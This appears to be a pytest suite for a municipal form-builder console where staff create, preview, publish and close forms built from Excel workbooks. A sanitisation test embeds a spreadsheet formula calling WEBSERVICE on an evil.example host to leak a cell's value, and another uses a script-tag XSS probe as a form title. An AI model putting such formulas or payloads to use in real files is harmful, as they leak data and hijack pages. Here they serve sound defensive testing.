"""Staff make a form on the pages of the console: begin, look at it, publish, close."""

from __future__ import annotations

import io
import re
import zipfile
from html import unescape

import pytest
from flask import Flask
from openpyxl import load_workbook
from sqlalchemy import select

from liff_app.db import db, transaction
from liff_app.procedures import samples
from liff_app.procedures.models import FormBench
from liff_app.procedures.workbooks import reading, writing
from liff_app.staff import service as staff
from liff_app.staff.vocabulary import Role
from tests.conftest import ConsoleVisitor, colleague, on_sqlite
from tests.house.page import faults

from .desk import (
    HERE,
    PAGE,
    begin,
    bench_of,
    broken,
    column,
    file,
    follow,
    noted,
    opened,
    publish,
    sound,
)

pytestmark = on_sqlite


@pytest.fixture
def maker(app: Flask) -> ConsoleVisitor:
    return colleague(app, Role.ADMINISTRATOR)


def test_a_sample_becomes_a_form_that_residents_fill_in(maker: ConsoleVisitor) -> None:
    assert "見本から始められます" in sound(maker.get(PAGE))
    sound(maker.get(f"{PAGE}/new"))
    assert begin(maker) == f"{HERE}/1"
    page = sound(maker.get(f"{HERE}/1"))
    assert "下書き" in page
    assert "公開に進む" in page
    assert opened() is None
    assert "はじめての公開" in sound(maker.get(f"{HERE}/1/publish"))
    assert "公開の設定をしました" in follow(maker, publish(maker))
    assert opened() == 1
    assert "公開中" in sound(maker.get(PAGE))
    for action in ("added", "published"):
        assert noted(f"procedure_form.{action}") == 1


@pytest.mark.parametrize("name", samples.names())
def test_every_sample_can_be_looked_at_on_each_of_its_paths(
    maker: ConsoleVisitor, name: str
) -> None:
    path = begin(maker, f"sample:{name}")
    page = sound(maker.get(path))
    found = re.search(r"(\d+)とおり", page)
    assert found
    for at in {0, 1, int(found[1]) - 1, 9999}:
        sound(maker.get(f"{path}/preview?path={at}"))


def test_a_form_can_begin_with_nothing_and_asks_for_what_it_needs(maker: ConsoleVisitor) -> None:
    refused = maker.post(f"{PAGE}/new", data={"source": "blank"})
    assert refused.status_code == 422
    for field in ("slug", "title"):
        assert f'href="#f-{field}"' in refused.text
    typed = {"title": "公園の利用届", "slug": "koen", "prefix": "園"}
    assert begin(maker, "blank", **typed) == f"{PAGE}/koen/1"
    page = sound(maker.get(f"{PAGE}/koen/1"))
    assert "公園の利用届" in page
    assert "「園」で始まる" in page
    assert maker.post(f"{PAGE}/new", data={"source": "nothing", "slug": "abc"}).status_code == 422
    again = maker.post(f"{PAGE}/new", data=typed | {"source": "blank"})
    assert again.status_code == 422
    assert "このアドレスは使われています" in again.text


def test_a_copy_has_its_own_name_address_and_prefix(maker: ConsoleVisitor) -> None:
    begin(maker)
    publish(maker)
    sound(maker.get(f"{PAGE}/new?source=copy:sodai-gomi:1"))
    typed = {"title": "家電の収集", "slug": "kaden"}
    path = begin(maker, "copy:sodai-gomi:1", **typed)
    page = sound(maker.get(path))
    assert "家電の収集" in page
    assert "まだ公開できません" in page
    refused = maker.post(f"{path}/publish", data={"when": "now", "sure": "y"})
    assert refused.status_code == 422
    assert "受付番号の頭の文字" in refused.text
    begin(maker, "copy:sodai-gomi:1", title="家電の収集", slug="kaden-2", prefix="家")
    fine = maker.post(f"{PAGE}/kaden-2/1/publish", data={"when": "now", "sure": "y"})
    assert fine.status_code == 303


def test_the_workbook_comes_back_with_what_its_cells_said_and_nothing_else(
    maker: ConsoleVisitor,
) -> None:
    book = load_workbook(io.BytesIO(samples.raw("juminhyo")))
    memo = book.create_sheet("memo")
    memo["A1"], memo["A2"] = '=WEBSERVICE("http://evil.example/?"&A2)', "marked"
    book["survey"]["A1"].hyperlink = "https://evil.example/"
    brought = io.BytesIO()
    book.save(brought)
    path = begin(maker, "file", slug="juminhyo", **file(brought.getvalue()))
    page = sound(maker.get(path))
    assert "memo シート" in page
    assert "このシートは読み込まず、保存もしません。" in page
    answer = maker.get(f"{path}/workbook.xlsx")
    grid = reading.open_workbook(samples.raw("juminhyo"))
    assert answer.data == writing.write(grid)
    assert reading.open_workbook(answer.data) == grid
    with zipfile.ZipFile(io.BytesIO(answer.data)) as archive:
        whole = b"".join(map(archive.read, archive.namelist()))
    for word in (b"evil", b"marked", b"<f>", b"External"):
        assert word not in whole
    assert answer.headers["Content-Disposition"] == 'attachment; filename="juminhyo-1.xlsx"'
    assert noted("procedure_form.downloaded") == 1


@pytest.mark.parametrize(
    ("raw", "words"),
    [(b"", "えらんでください"), (b"no workbook", "Excelブック"), (b"\xd0\xcf\x11\xe0" * 9, ".xls")],
)
def test_what_is_no_workbook_is_refused_in_a_sentence(
    maker: ConsoleVisitor, raw: bytes, words: str
) -> None:
    begin(maker)
    for path in (f"{HERE}/versions", f"{PAGE}/new"):
        sent = {"source": "file", "slug": "abc"} | (file(raw) if raw else {})
        refused = maker.post(path, data=sent)
        assert refused.status_code == 422, path
        assert words in unescape(refused.text)
    assert db.session.scalars(select(FormBench.ref)).all() == []


def test_publishing_is_asked_twice_and_takes_a_time(maker: ConsoleVisitor) -> None:
    begin(maker)
    unsure = maker.post(f"{HERE}/1/publish", data={"when": "now"})
    assert unsure.status_code == 422
    assert faults(unsure, PAGE) == []
    for said in ({"when": "later"}, {"when": "later", "open_from": "soon"},
                 {"open_until": "2020-01-01T00:00"}):  # fmt: skip
        refused = publish(maker, 1, **said)
        assert refused.status_code == 422, said
        assert faults(refused, PAGE) == []
    assert opened() is None
    planned = publish(maker, when="later", open_from="2999-01-01T09:00")
    assert "公開の予定" in follow(maker, planned)
    assert opened() is None
    follow(maker, maker.post(f"{HERE}/1/call-off"))
    assert publish(maker).status_code == 303
    twice = publish(maker)
    assert twice.status_code == 409
    assert faults(twice, PAGE) == []
    assert maker.post(f"{HERE}/1/call-off").status_code == 409


def test_a_change_that_refuses_earlier_answers_must_be_confirmed(maker: ConsoleVisitor) -> None:
    begin(maker)
    publish(maker)
    required, number = column("constraint"), _row_of("integer")
    raw = broken(**{f"{required}{number}": ". > 1000000"})
    answer = maker.post(f"{HERE}/versions", data=file(raw))
    assert answer.status_code == 303
    page = follow(maker, answer)
    if "/bench/" in answer.headers["Location"]:
        pytest.fail(page)
    page = sound(maker.get(f"{HERE}/2/publish"))
    assert "この版では送れないもの" in page
    refused = publish(maker, 2)
    assert refused.status_code == 422
    assert opened() == 1
    assert publish(maker, 2, broken="y").status_code == 303
    assert opened() == 2


def _row_of(kind: str) -> int:
    sheet = load_workbook(io.BytesIO(samples.raw("sodai_gomi")))["survey"]
    return next(int(cell.row) for cell in sheet["A"] if cell.value == kind)


def test_a_form_is_closed_opened_given_ended_and_put_away(maker: ConsoleVisitor) -> None:
    begin(maker)
    publish(maker)
    with transaction() as session:
        department = staff.add_department(session, "環境課")
    assert "受付を止めました" in follow(maker, maker.post(f"{HERE}/close"))
    assert opened() is None
    assert "また始めました" in follow(maker, maker.post(f"{HERE}/reopen"))
    given = maker.post(f"{HERE}/department", data={"department": department})
    assert "環境課" in follow(maker, given)
    sound(maker.get(f"{HERE}/1/end"))
    assert maker.post(f"{HERE}/1/end", data={"open_until": "soon"}).status_code == 422
    assert maker.post(f"{HERE}/1/end", data={"open_until": "2020-01-01T00:00"}).status_code == 422
    follow(maker, maker.post(f"{HERE}/1/end", data={"open_until": "2999-01-01T00:00"}))
    maker.post(f"{HERE}/versions", data=file(samples.raw("sodai_gomi")))
    assert "やめた下書き" in follow(maker, maker.post(f"{HERE}/2/discard"))
    assert "下書きに戻しました" in follow(maker, maker.post(f"{HERE}/2/restore"))
    assert maker.post(f"{HERE}/1/discard").status_code == 409
    begin(maker, "sample:juminhyo")
    order = maker.post(f"{PAGE}/juminhyo/move", data={"way": "up"})
    page = follow(maker, order)
    assert page.index("juminhyo") < page.index("sodai-gomi")


def test_a_department_meets_its_own_forms_only(app: Flask, maker: ConsoleVisitor) -> None:
    with transaction() as session:
        tax, waste = (staff.add_department(session, one) for one in ("税務課", "環境課"))
    begin(maker, department=waste)
    begin(maker, "sample:juminhyo", department=tax)
    narrow = colleague(app, (Role.PROCEDURE_REVIEWER, {"department": tax}))
    page = sound(narrow.get(PAGE))
    assert "juminhyo" in page
    assert "sodai-gomi" not in page
    assert "↑" not in page
    sound(narrow.get(f"{PAGE}/juminhyo"))
    ref, rows = bench_of(follow(maker, maker.post(f"{HERE}/1/edit")))
    bench = f"{PAGE}/bench/{ref}"
    for path in (HERE, f"{HERE}/1", f"{HERE}/1/preview", f"{HERE}/1/publish", f"{HERE}/compare",
                 f"{HERE}/1/end", f"{HERE}/1/workbook.xlsx", bench, f"{bench}/settings",
                 f"{bench}/questions/{rows[1]}", f"{bench}/workbook.xlsx"):  # fmt: skip
        assert narrow.get(path).status_code == 404, path
    for path in (f"{HERE}/1/edit", f"{HERE}/1/publish", f"{HERE}/close", f"{HERE}/1/discard",
                 f"{bench}/order", f"{bench}/finish", f"{bench}/discard"):  # fmt: skip
        assert narrow.post(path, data={"when": "now", "sure": "y"}).status_code == 404, path
    assert narrow.post(f"{PAGE}/juminhyo/move", data={"way": "up"}).status_code == 403
    assert narrow.post(f"{PAGE}/new", data={"source": "sample:jido_teate", "department": waste}
                       ).status_code == 422  # fmt: skip
    viewer = colleague(app, Role.VIEWER)
    assert viewer.get(PAGE).status_code == 403


def test_words_of_a_form_are_shown_as_words(maker: ConsoleVisitor) -> None:
    evil = "<script>alert(1)</script>"
    grid = writing.blank_grid(evil)
    path = begin(maker, "file", slug="evil", **file(writing.write(grid)))
    for where in (PAGE, path, f"{path}/preview", f"{path}/publish", f"{PAGE}/evil"):
        page = maker.get(where)
        assert page.status_code == 200
        assert evil not in page.text
        assert "&lt;script&gt;" in page.text or "preview" in where
